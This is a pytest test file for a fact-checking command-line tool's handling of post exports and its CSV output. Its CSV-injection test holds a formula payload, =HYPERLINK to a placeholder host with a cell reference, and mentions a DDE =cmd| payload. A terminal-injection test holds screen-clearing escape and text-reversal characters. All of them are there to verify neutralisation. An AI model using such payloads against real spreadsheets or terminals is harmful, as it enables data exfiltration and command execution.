"""A moderator's export of posts, checked with ``check - --input-format csv|tsv|jsonl``: its answers as CSV for
a spreadsheet (``--format csv``), a semicolon-separated export (Excel's CSV in much of Europe) read as it is, a
row holding an unquoted comma in its post, a JSON record without the id the others have, and Ctrl-C mid-file.

And plain ``check -`` (lines, no ``--input-format``) stays as it was, byte for byte.
"""

from __future__ import annotations

import csv
import io
import json
import re
import shutil
import signal
import subprocess
from collections.abc import Callable
from pathlib import Path
from typing import Any

import pytest
from typer.testing import Result

from factcheck.errors import InputError
from factcheck.posts import PostFormat, read_posts
from tests.test_e2e import FACTCHECK
from tests.test_stdin_pipeline import HANG, _environment, _read_line

FIXTURES = Path(__file__).parent / "fixtures"


def _posts(data: str | bytes, post_format: PostFormat = PostFormat.CSV, **columns: str) -> list[tuple[int, Any, Any]]:
    """(line, id, text or the error's message) of each post ``read_posts`` reads from ``data``."""
    stream = io.BytesIO(data.encode("utf-8") if isinstance(data, str) else data)
    return [
        (post.line, post.id, post.text if post.error is None else str(post.error))
        for post in read_posts(stream.readline, post_format, **columns)
    ]


def _noted(data: str, post_format: PostFormat = PostFormat.CSV, **columns: str) -> list[str]:
    """The notes ``read_posts`` gives as it reads ``data``, each as ``check`` prints it (less "factcheck: ")."""
    notes: list[str] = []
    stream = io.BytesIO(data.encode("utf-8"))
    for _ in read_posts(
        stream.readline, post_format, on_note=lambda where, note: notes.append(f"{where}: note: {note}"), **columns
    ):
        pass
    return notes


def _plain_check(invoke: Callable[..., Result], tmp_path: Path, *options: str) -> tuple[int, str, str]:
    """``check -`` of ``check_lines_stdin.txt`` against a copy of ``mini_claims.yaml``: exit code, standard output
    (the claims file's path as ``<KB>``) and standard error."""
    kb = tmp_path / "claims.yaml"
    shutil.copyfile(FIXTURES / "mini_claims.yaml", kb)
    data = (FIXTURES / "check_lines_stdin.txt").read_bytes()
    result = invoke("check", "-", "--kb", str(kb), *options, input=data)
    return result.exit_code, result.stdout.replace(json.dumps(str(kb)), '"<KB>"'), result.stderr


def test_plain_check_dash_prints_what_it_printed_before_byte_for_byte(
    invoke: Callable[..., Result], tmp_path: Path
) -> None:
    # the expected files were written by this very command before --format csv and the export's other changes
    # came in (a header line, CRLF and CR line ends, an empty line, a byte not UTF-8, a formula-like line): the
    # lines mode is a contract scripts read.  Should a change of scoring move a score on purpose, write them
    # again from the same command (docstring of _plain_check) and say so in its commit
    code, stdout, stderr = _plain_check(invoke, tmp_path)
    assert stdout == (FIXTURES / "check_lines_stdin.expected.jsonl").read_text(encoding="utf-8")
    assert stderr == (FIXTURES / "check_lines_stdin.expected.stderr").read_text(encoding="utf-8")
    assert code == 2


# -- --format csv: the answers as a table for a spreadsheet -----------------------------------------------------

#: the columns of ``check - --input-format ... --format csv``, in order (a stable interface, as export's)
CSV_HEADER = [
    "id",
    "line",
    "rank",
    "match",
    "verdict",
    "claim_id",
    "score",
    "polarity",
    "claim",
    "source_url",
    "post",
    "error",
    "differences",
]
TEN_THOUSAND = "us-troops-in-mexico-10000"


def _table(result: Result) -> list[dict[str, str]]:
    """The rows of a CSV answer, each by its column's name (the header checked)."""
    # click's Result.stdout makes every CRLF a LF, a cell's own too: the bytes are read as written
    rows = list(csv.reader(io.StringIO(result.stdout_bytes.decode("utf-8"), newline="")))
    assert rows[0] == CSV_HEADER
    return [dict(zip(rows[0], row, strict=True)) for row in rows[1:]]


def test_csv_output_is_one_row_a_post_with_its_best_match(invoke: Callable[..., Result]) -> None:
    export = (
        "id,author,text\r\n"
        '901,@a,"There are 10,000 US troops\r\nin Mexico!! 😡"\r\n'
        "902,@b,\r\n"
        "903,@c,Mexico&#39;s Senate let 10 US soldiers in\r\n"
        "904,@d,Bananas are berries\r\n"
        '905,@e,"a quote never closed\r\n'
    )
    result = invoke("check", "-", "--input-format", "csv", "--format", "csv", input=export.encode())
    rows = _table(result)
    # one row a post (--top is 1 unless given), in order, each with its line and id, the unread one too
    assert [(row["id"], row["line"], row["rank"], row["match"]) for row in rows] == [
        ("901", "2", "1", "match"),
        ("902", "4", "", "no match"),
        ("903", "5", "1", "possible match"),
        ("904", "6", "", "no match"),
        ("", "7", "", "error"),
    ]
    first = rows[0]
    assert (first["verdict"], first["claim_id"], first["polarity"]) == ("false", TEN_THOUSAND, "same")
    assert first["claim"] == "There are more than 10,000 US troops deployed in Mexico."
    assert first["source_url"] == "https://www.northcom.mil/BorderSecurity/index.html"  # the claim's first source
    assert 0.8 <= float(first["score"]) <= 1
    assert first["post"] == "There are 10,000 US troops\r\nin Mexico!! 😡"  # its line break kept, in its cell
    assert first["error"] == ""
    assert first["differences"] == ""  # the post says what the claim says
    assert rows[2]["verdict"] == "true" and 0.5 <= float(rows[2]["score"]) < 0.8
    assert all(rows[n][key] == "" for n in (1, 3, 4) for key in ("verdict", "claim_id", "score", "claim"))
    assert rows[4]["error"] == (
        "<stdin>:7: error: not a row of the table: a quote opened and not closed before the end of the input"
    )
    # the same answers as JSON Lines: the JSON's score, the summary and the exit code unchanged
    answers = [
        json.loads(line) for line in invoke("check", "-", "--input-format", "csv", input=export).stdout.splitlines()
    ]
    assert first["score"] == str(answers[0]["matches"][0]["score"])
    assert result.stderr.splitlines()[-1] == (
        "factcheck: <stdin>: 5 posts: 2 matched (false 1, true 1; 1 possible match), 2 not matched, 1 unreadable"
    )
    assert result.exit_code == 2
    # RFC 4180: CRLF line ends, UTF-8 without a byte-order mark (--bom adds it), every cell in quotes
    assert result.stdout_bytes.startswith(b'"id","line","rank",') and result.stdout_bytes.endswith(b'"\r\n')


def test_csv_output_with_top_is_one_row_a_match_ranked(invoke: Callable[..., Result]) -> None:
    export = "id\ttext\n1\tThere are 10,000 US troops in Mexico\n2\tBananas are berries\n"
    rows = _table(invoke("check", "-", "--input-format", "tsv", "--format", "csv", "--top", "2", input=export))
    assert [(row["id"], row["rank"], row["match"]) for row in rows] == [
        ("1", "1", "match"),
        ("1", "2", "match"),
        ("2", "", "no match"),
    ]
    assert rows[0]["claim_id"] == TEN_THOUSAND and rows[1]["claim_id"] != TEN_THOUSAND
    assert rows[0]["post"] == rows[1]["post"] == "There are 10,000 US troops in Mexico"


def test_csv_output_neutralises_cells_a_spreadsheet_would_run_as_formulas(invoke: Callable[..., Result]) -> None:
    # a post (or its id) opening with = + - @ or a tab runs as a formula in Excel, LibreOffice and Google Sheets
    # (OWASP's "CSV injection"): =HYPERLINK sends the sheet's cells away when clicked, DDE's =cmd|... runs a program
    export = (FIXTURES / "posts_formulas.csv").read_bytes()
    result = invoke("check", "-", "--input-format", "csv", "--format", "csv", input=export)
    rows = _table(result)
    assert [row["id"] for row in rows] == ["'=1+1", "2", "3", "4", "5", "6", "7"]
    assert [row["post"][:12] for row in rows] == [
        "'=HYPERLINK(",
        "'+1 555 0100",
        "'-50% today ",
        "'@everyone t",
        "'\t=cmd|' /C ",
        "US troops in",  # no formula opens it: as it is (its ';=1+1' stays inside its quotes)
        "''=1+1' he w",  # an apostrophe more, so that the cell reads back as it was written
    ]
    # every cell in quotes, as OWASP advises: read by a spreadsheet that splits by ';' (Excel in much of Europe
    # opening a comma-separated file), no cell of post 6 opens with '=' either
    for line in result.stdout.splitlines()[1:]:
        assert line.startswith('"') and line.endswith('"')
    assert '"US troops in Mexico;=1+1"' in result.stdout
    # the JSON answers keep the post as written: the apostrophe is the spreadsheet's, not the post's
    answers = invoke("check", "-", "--input-format", "csv", input=export).stdout.splitlines()
    assert json.loads(answers[0])["id"] == "=1+1" and json.loads(answers[0])["query"].startswith("=HYPERLINK(")


def test_csv_output_with_bom_opens_with_the_mark_excel_reads_as_utf8(invoke: Callable[..., Result]) -> None:
    export = "id,text\n1,Hay diez mil soldados estadounidenses en México\n"
    plain = invoke("check", "-", "--input-format", "csv", "--format", "csv", input=export)
    marked = invoke("check", "-", "--input-format", "csv", "--format", "csv", "--bom", input=export)
    assert not plain.stdout_bytes.startswith(b"\xef\xbb\xbf")
    assert marked.stdout_bytes == b"\xef\xbb\xbf" + plain.stdout_bytes
    assert "México".encode() in plain.stdout_bytes
    # what it writes reads back as an export: its own --input-format csv reads the mark and the quotes
    again = invoke("check", "-", "--input-format", "csv", "--text-column", "post", input=marked.stdout_bytes)
    assert json.loads(again.stdout.splitlines()[0])["id"] == "1"


@pytest.mark.parametrize(
    ("args", "message"),
    [
        (
            ["check", "US troops", "--format", "csv"],
            "Invalid value for '--format': csv is for statements read from standard input: give STATEMENT '-'",
        ),
        (["check", "-", "--input-format", "csv", "--format", "csv", "--json"], "--json and --format csv cannot"),
        (
            ["check", "-", "--input-format", "csv", "--bom"],
            "Invalid value for '--bom': it is for --format csv only (JSON is read as UTF-8 without one)",
        ),
        (
            ["check", "US troops", "--bom"],
            "Invalid value for '--bom': it is for --format csv only (check -'s answers; this prints text)",
        ),
        (
            ["check", "-", "--input-format", "csv", "--output", "csv"],
            "No such option: --output; check - writes CSV with --format csv",
        ),
        (["check", "-", "--format", "text"], "Invalid value for '--format': text is for one STATEMENT"),
    ],
)
def test_csv_output_goes_with_check_dash(invoke: Callable[..., Result], args: list[str], message: str) -> None:
    result = invoke(*args, input="id,text\n1,a\n")
    assert result.exit_code == 2 and result.stdout == "" and message in result.stderr


def test_check_format_json_and_text_are_the_json_and_text_it_prints_without(invoke: Callable[..., Result]) -> None:
    statement = "There are 10,000 US troops in Mexico"
    assert invoke("check", statement, "--format", "json").stdout == invoke("check", statement, "--json").stdout
    assert invoke("check", statement, "--format", "text").stdout == invoke("check", statement).stdout


def test_plain_check_dash_with_format_json_or_input_format_lines_prints_the_same(
    invoke: Callable[..., Result], tmp_path: Path
) -> None:
    plain = _plain_check(invoke, tmp_path)
    assert _plain_check(invoke, tmp_path, "--format", "json") == plain
    assert _plain_check(invoke, tmp_path, "--input-format", "lines", "--json") == plain


# -- an export split by semicolons: Excel's "CSV" where the comma is the decimal mark ---------------------------


def test_a_semicolon_separated_export_is_read_as_it_is(invoke: Callable[..., Result]) -> None:
    # Excel's "CSV UTF-8" in French, German, Spanish or Italian: a byte-order mark, ';', CRLF, decimal commas;
    # it was refused with a python3 line to make it comma-separated first
    export = (FIXTURES / "posts_export_semicolons.csv").read_bytes()
    assert _posts(export) == [
        (2, "901", "Il y a 10 000 soldats américains au Mexique"),
        (3, "902", "Hay diez mil soldados estadounidenses en México; ¡es verdad!"),
        (4, "903", "Les bananes sont des baies, 3,5 fois plus que les fraises"),
        (5, "904", "There are 10,000 US troops\nin Mexico"),
    ]
    result = invoke("check", "-", "--input-format", "csv", "--top", "1", input=export)
    answers = [json.loads(line) for line in result.stdout.splitlines()]
    assert answers[1]["matches"][0]["id"] == TEN_THOUSAND
    assert result.exit_code == 0 and ": note: " not in result.stderr


def test_the_answers_to_a_semicolon_export_are_split_by_semicolons_too(invoke: Callable[..., Result]) -> None:
    # the Excel that wrote ';' (its list separator) splits a double-clicked .csv by ';': answers split by ','
    # would show each row in one column
    export = (FIXTURES / "posts_export_semicolons.csv").read_bytes()
    result = invoke("check", "-", "--input-format", "csv", "--format", "csv", input=export)
    assert result.stdout.startswith('"id";"line";"rank";"match";"verdict";"claim_id";')
    rows = list(csv.DictReader(io.StringIO(result.stdout, newline=""), delimiter=";"))
    assert [row["id"] for row in rows] == ["901", "902", "903", "904"]
    assert rows[1]["claim_id"] == TEN_THOUSAND
    assert rows[1]["post"] == "Hay diez mil soldados estadounidenses en México; ¡es verdad!"
    # a comma export's answers stay split by commas, a tab-separated one's too (a spreadsheet's own CSV)
    comma = invoke("check", "-", "--input-format", "csv", "--format", "csv", input="id,text\n1,a; b\n")
    assert comma.stdout.startswith('"id","line",')
    tabs = invoke("check", "-", "--input-format", "tsv", "--format", "csv", input="id\ttext\n1\ta; b\n")
    assert tabs.stdout.startswith('"id","line",')


def test_a_semicolon_export_with_every_cell_quoted_is_read_as_it_is(invoke: Callable[..., Result]) -> None:
    # R's write.csv2, pandas' to_csv(sep=";", quoting=csv.QUOTE_ALL), LibreOffice's "quote all text cells": a
    # comma read of '"id";"text"' fails at the first ';', before any column of posts could be looked for
    export = '"id";"text";"url"\r\n"1";"There are 10,000 US troops in Mexico";"https://x"\r\n"2";"a; b";""\r\n'
    assert _posts(export) == [(2, "1", "There are 10,000 US troops in Mexico"), (3, "2", "a; b")]
    result = invoke("check", "-", "--input-format", "csv", "--top", "1", input=export)
    answers = [json.loads(line) for line in result.stdout.splitlines()]
    assert answers[0]["matches"][0]["id"] == TEN_THOUSAND
    assert result.exit_code == 0
    # a header the semicolons do not read either keeps the comma read's error
    with pytest.raises(InputError, match=r"^<stdin>:1: error: the header cannot be read: not a row of the table"):
        _posts('"a";"b"\r\n"1";"2"\r\n')


def test_a_header_is_read_split_by_semicolons_only_when_commas_name_no_column_of_posts() -> None:
    # split by commas it names its columns: a post's ';' is text
    assert _posts("id,text\n1,a; b\n") == [(2, "1", "a; b")]
    # the column named by --text-column decides as the default names do
    assert _posts("ref;body\nA;b, c\n", text_column="body", id_column="ref") == [(2, "A", "b, c")]
    # split by neither: the message names the header as the comma read it
    with pytest.raises(InputError, match=r"^<stdin>:1: error: the header names no column of posts \('a;b'\); say"):
        _posts("a;b\n1;2\n")
    # a tab-separated read of it is sent to --input-format csv, which reads it
    with pytest.raises(
        InputError, match=r"\('id;text'\); it reads as split by ';' \(Excel's CSV in some languages\): "
    ):
        _posts("id;text\n1;a\n", PostFormat.TSV)
    with pytest.raises(InputError, match=r": read it with --input-format csv$"):
        _posts("id;text\n1;a\n", PostFormat.TSV)


def test_the_header_note_of_lines_sends_a_semicolon_export_to_input_format_csv(invoke: Callable[..., Result]) -> None:
    result = invoke("check", "-", input="id;text\n1;US troops\n")
    assert "factcheck check - --input-format csv < FILE.csv; or give the posts alone" in result.stderr


# -- a row of more cells than the header: a post holding a delimiter not in quotes ------------------------------


def test_a_row_with_an_unquoted_comma_in_its_post_is_read_with_the_comma_in_the_post() -> None:
    # Python's csv gives the row as it is (DictReader puts the extra cells under the key None), pandas stops
    # ("Expected 4 fields in line 2, saw 5"); the moderator's post is checked, with a note that says how it was read
    export = "id,author,text,url\n2,@b,fine,https://x.example/2\n1,@a,There are 10,000 US troops in Mexico,https://x.example/1\n"
    assert _posts(export) == [
        (2, "2", "fine"),
        (3, "1", "There are 10,000 US troops in Mexico"),
    ]
    assert _noted(export) == [
        "<stdin>:3: note: the row has 5 cells where the header names 4: read as a post holding 1 comma not in quotes "
        "('There are 10,000 US troops in Mexico'); if another cell holds it, put that cell in quotes"
    ]
    # the post as the last column, or before its id: the cells after the text are counted from the row's end
    assert _posts("id,text\n1,fine\n42,hello, world, again\n")[1] == (3, "42", "hello, world, again")
    assert _posts("text,id\nfine,1\nhello, world,42\n")[1] == (3, "42", "hello, world")
    # a tab-separated row of a tab more: the same
    assert _posts("id\ttext\tlang\n1\tfine\ten\n7\ta\tb\ten\n", PostFormat.TSV)[1] == (3, "7", "a\tb")
    # the note names the delimiters as words, one or more, tabs as commas
    assert _noted("id\ttext\tlang\n1\tfine\ten\n7\ta\tb\tc\ten\n", PostFormat.TSV)[0].endswith(
        "read as a post holding 2 tabs not in quotes ('a\\tb\\tc'); if another cell holds it, put that cell in quotes"
    )
    assert "read as a post holding 2 commas not in quotes" in _noted("id,text\n1,fine\n2,a, b, c\n")[0]


def test_a_row_of_more_cells_whose_post_was_in_quotes_stays_an_error() -> None:
    # the stray comma is in another column (a url, a value typed past the last column): the post was quoted, so
    # joining it with the next cell would check a text the export does not hold
    export = 'id,text,url\n1,fine,https://x/1\n2,"There are 10,000 US troops in Mexico",https://x.example/a,b\n'
    assert _posts(export)[1] == (
        3,
        "2",
        "<stdin>:3: error: the row has 4 cells where the header names 3 (a delimiter in a cell not in quotes?)",
    )
    assert _noted(export) == []
    typed_past = 'id,text,url\n1,fine,https://x/1\n905,"hello",https://x/905,spam\n'
    assert _posts(typed_past)[1][2].endswith(
        "the row has 4 cells where the header names 3 (a delimiter in a cell not in quotes?)"
    )


def test_a_header_naming_fewer_columns_than_its_first_row_is_one_error(invoke: Callable[..., Result]) -> None:
    # every row has the same surplus: the header is short, no post holds a comma; one error, not one note a row
    export = "id,text\n1,There are 10000 US troops in Mexico,2026-12-01,en\n2,Bananas are berries,2026-12-01,en\n"
    with pytest.raises(InputError) as raised:
        _posts(export)
    assert str(raised.value) == (
        "<stdin>:2: error: the first row has 4 cells where the header names 2 ('id', 'text'): name each column "
        "in the header, or put a post holding a comma in quotes"
    )
    result = invoke("check", "-", "--input-format", "csv", "--format", "csv", input=export)
    assert result.exit_code == 2
    assert result.stdout == ""
    assert result.stderr.count("error") == 1


def test_a_row_of_fewer_cells_or_a_piece_of_the_record_before_it_stays_an_error() -> None:
    assert _posts("id,author,text,url\n1,@a,cut short\n") == [
        (2, "1", "<stdin>:2: error: the row has 3 cells where the header names 4")
    ]
    # after a quote closed too early, the record's next line is no row of its own: not read as a post
    posts = _posts('id,text\n1,"first line\nsecond" oops, and, more\n3,fine\n')
    assert [(line, post_id) for line, post_id, _ in posts] == [(2, None), (3, None), (4, "3")]


def test_a_recovered_row_is_checked_and_counted_as_read(invoke: Callable[..., Result]) -> None:
    export = (FIXTURES / "posts_export.csv").read_bytes()
    result = invoke("check", "-", "--input-format", "csv", "--top", "1", input=export)
    answers = [json.loads(line) for line in result.stdout.splitlines()]
    assert (answers[-1]["id"], answers[-1]["query"]) == ("905", "an unquoted, comma")
    assert "error" not in answers[-1]
    assert result.stderr.splitlines() == [
        "factcheck: <stdin>:7: note: the row has 6 cells where the header names 5: read as a post holding 1 comma not "
        "in quotes ('an unquoted, comma'); if another cell holds it, put that cell in quotes",
        "factcheck: <stdin>: 5 posts: 2 matched (false 1, true 1; 1 possible match), 3 not matched, 0 unreadable",
    ]
    assert result.exit_code == 0


# -- JSON Lines: a record without the id the export's posts have ------------------------------------------------


def test_a_later_record_without_the_id_gets_a_note_of_its_own(invoke: Callable[..., Result]) -> None:
    export = '{"id": 1, "text": "a"}\n{"text": "b"}\n{"id": null, "text": "c"}\n{"id": 4, "text": "d"}\n'
    assert [post_id for _, post_id, _ in _posts(export, PostFormat.JSONL)] == [1, None, None, 4]
    # an "id": null is the export's own word; a key missing is said, once a record
    assert _noted(export, PostFormat.JSONL) == [
        "<stdin>:2: note: the object has no key 'id', as the first does: its \"id\" is null"
    ]
    assert _noted('{"ref": 1, "text": "a"}\n{"text": "b"}\n', PostFormat.JSONL, id_column="ref") == [
        "<stdin>:2: note: the object has no key 'ref', as the first does: its \"id\" is null"
    ]
    # an export without ids has none to miss
    assert _noted('{"text": "a"}\n{"text": "b"}\n', PostFormat.JSONL) == []
    result = invoke("check", "-", "--input-format", "jsonl", input=export)
    assert "factcheck: <stdin>:2: note: the object has no key 'id'" in result.stderr
    assert result.exit_code == 1


def test_twitter_api_v2_objects_are_told_where_their_id_is() -> None:
    # the object of Twitter's (X's) API v2 holds the post and its id in "data"
    export = '{"data": {"id": "1050118621198921728", "text": "US troops in Mexico"}}\n' * 2
    with pytest.raises(InputError) as no_text:
        _posts(export, PostFormat.JSONL)
    assert str(no_text.value) == (
        "<stdin>:1: error: the object has no key of posts ('data'); say which with --text-column NAME (a dotted path "
        "reads inside an object: --text-column data.text --id-column data.id)"
    )
    # the text found, its id not: every "id" would be null, where data.id holds it
    assert _noted(export, PostFormat.JSONL, text_column="data.text") == [
        '<stdin>:1: note: the object has no key of ids (id_str, id, post_id...) at its top: each post\'s "id" is '
        "null; say which with --id-column data.id"
    ]
    with pytest.raises(
        InputError,
        match=r"^<stdin>:1: error: the object has no key 'id' \('data'\); a dotted path "
        r"reads inside an object: --id-column data.id$",
    ):
        _posts(export, PostFormat.JSONL, text_column="data.text", id_column="id")
    assert _posts(export, PostFormat.JSONL, text_column="data.text", id_column="data.id")[0][1] == "1050118621198921728"


def test_an_id_is_hinted_only_in_the_object_that_holds_the_post() -> None:
    # an author's id is no post's id: following such a hint keyed every post by its author, ids repeated
    authored = '{"text": "There are 10,000 US troops in Mexico", "user": {"id": 42}}\n'
    assert _noted(authored, PostFormat.JSONL) == []
    with pytest.raises(InputError) as no_id:
        _posts(authored, PostFormat.JSONL, id_column="id")
    assert str(no_id.value) == "<stdin>:1: error: the object has no key 'id' ('text', 'user')"
    nested = '{"data": {"text": "US troops in Mexico"}, "author": {"id": 42}}\n'
    with pytest.raises(InputError) as no_text:
        _posts(nested, PostFormat.JSONL)
    assert str(no_text.value).endswith("(a dotted path reads inside an object: --text-column data.text)")
    assert _noted(nested, PostFormat.JSONL, text_column="data.text") == []


# -- Ctrl-C mid-file: the count so far ------------------------------------------------------------------------


def test_ctrl_c_mid_file_says_how_many_posts_were_checked_and_exits_130(
    invoke: Callable[..., Result], monkeypatch: pytest.MonkeyPatch
) -> None:
    import factcheck.cli.check as check_command

    answered = check_command.answer
    calls = []

    def answer_then_interrupted(*args: Any, **kwargs: Any) -> Any:
        calls.append(1)
        if len(calls) == 3:
            raise KeyboardInterrupt
        return answered(*args, **kwargs)

    monkeypatch.setattr(check_command, "answer", answer_then_interrupted)
    export = 'id,text\n1,"There are 10,000 US troops in Mexico"\n2,Bananas are berries\n3,c\n4,d\n'
    for output in ("json", "csv"):
        calls.clear()
        result = invoke("check", "-", "--input-format", "csv", "--format", output, input=export)
        assert result.exit_code == 130
        assert len(result.stdout.splitlines()) == (2 if output == "json" else 3)  # the CSV's header, then 2 rows
        assert result.stderr == (
            "factcheck: <stdin>: interrupted after 2 posts: 1 matched (false 1), 1 not matched, 0 unreadable\n"
        )


def test_csv_output_on_a_terminal_shows_control_characters_as_escapes(
    invoke: Callable[..., Result], monkeypatch: pytest.MonkeyPatch
) -> None:
    # a post is untrusted: ESC [2J in it cleared the screen it was shown on, U+202E turned the text after it around
    export = 'id,text\n1,"Clear \x1b[2J there are 10,000 US troops in Mexico \u202eevil"\n'
    piped = invoke("check", "-", "--input-format", "csv", "--format", "csv", input=export)
    assert "\x1b[2J" in _table(piped)[0]["post"]  # a file gets the post itself
    monkeypatch.setattr("factcheck.cli.check.is_terminal", lambda: True)
    shown = invoke("check", "-", "--input-format", "csv", "--format", "csv", "--bom", input=export).stdout
    assert "\x1b" not in shown and "\u202e" not in shown
    assert "Clear \\x1b[2J there" in shown and "\\u202eevil" in shown
    assert shown.startswith('"id","line",')  # no byte-order mark: a terminal shows text, not a file for Excel


def test_the_commands_page_names_the_csv_columns_in_their_order() -> None:
    from factcheck.postrows import POST_ROW_COLUMNS

    page = (FIXTURES.parent.parent / "docs" / "commands.md").read_text(encoding="utf-8")
    listed = page.split("Its columns are ", 1)[1].split(" (new columns", 1)[0]
    assert re.findall(r"`([a-z_]+)`", listed) == list(POST_ROW_COLUMNS) == CSV_HEADER


def test_csv_output_neutralises_a_formula_after_leading_spaces_or_a_line_break(invoke: Callable[..., Result]) -> None:
    export = 'id,text\n1,"  =HYPERLINK(""http://e.x/""&A1)"\n2,"\n=1+1"\n3,"  just spaces"\n'
    rows = _table(invoke("check", "-", "--input-format", "csv", "--format", "csv", input=export))
    assert [row["post"] for row in rows] == ['\'  =HYPERLINK("http://e.x/"&A1)', "'\n=1+1", "  just spaces"]


def test_a_column_added_at_the_end_leaves_every_cell_under_its_own_name(monkeypatch: pytest.MonkeyPatch) -> None:
    # the columns are a stable interface, new ones only at the end: a row built by position moved "post" and
    # "error" under the wrong names when one came, with no error
    from factcheck import postrows

    columns = (*postrows.POST_ROW_COLUMNS, "language")
    monkeypatch.setattr(postrows, "POST_ROW_COLUMNS", columns)
    for rows in (postrows.post_rows("7", 3, "a post", [], 0.5), postrows.post_rows("8", 4, None, [], 0.5, "bad row")):
        (row,) = rows
        cells = dict(zip(columns, row, strict=True))
        assert (cells["id"], cells["post"], cells["error"], cells["language"]) in (
            ("7", "a post", "", ""),
            ("8", "", "bad row", ""),
        )
        assert cells["match"] in (postrows.NO_MATCH, postrows.ERROR)


@pytest.mark.e2e
def test_a_real_ctrl_c_while_the_export_is_still_coming_counts_the_posts_answered(tmp_path: Path) -> None:
    # a moderator's pipe from a tool still writing: SIGINT while check waits for the next post, after two answers
    assert FACTCHECK
    process = subprocess.Popen(
        [FACTCHECK, "check", "-", "--input-format", "csv", "--format", "csv"],
        stdin=subprocess.PIPE,
        stdout=subprocess.PIPE,
        stderr=subprocess.PIPE,
        cwd=tmp_path,
        env=_environment(tmp_path),
    )
    assert process.stdin is not None and process.stdout is not None
    try:
        process.stdin.write(b'id,text\n1,"There are 10,000 US troops in Mexico"\n2,Bananas are berries\n')
        process.stdin.flush()
        rows = [_read_line(process.stdout.fileno(), HANG) for _ in range(3)]  # the header, then a row a post
        process.send_signal(signal.SIGINT)
        _, stderr = process.communicate(timeout=HANG)
    finally:
        process.kill()
        process.wait()
    assert [row.split(b",")[0] for row in rows] == [b'"id"', b'"1"', b'"2"']
    assert process.returncode == 130
    assert stderr == (
        b"factcheck: <stdin>: interrupted after 2 posts: 1 matched (false 1), 1 not matched, 0 unreadable\n"
    )


def test_csv_output_says_where_a_match_differs_from_the_post(invoke: Callable[..., Result]) -> None:
    """A match whose claim names another actor, place, date or amount than the post is shown in the terminal
    with a note and in the JSON with "differences": a spreadsheet row without them read as a plain match
    (integration review: "The Pentagon sent 19 Navy SEALs to Mexico", TRUE 0.96 against the Senate's claim)."""
    export = "id,text\n1,The Pentagon sent 19 Navy SEALs to Mexico\n"
    rows = _table(invoke("check", "-", "--input-format", "csv", "--format", "csv", input=export.encode()))
    answer = json.loads(invoke("check", "-", "--input-format", "csv", input=export.encode()).stdout)
    differences = answer["matches"][0]["differences"]
    assert differences is not None and rows[0]["claim_id"] == answer["matches"][0]["id"]
    assert differences == {"statement": ["Pentagon"], "claim": ["US"]}
    # as the terminal's note words it, of the post
    assert rows[0]["differences"] == "the post says “Pentagon” where the claim says “US”"
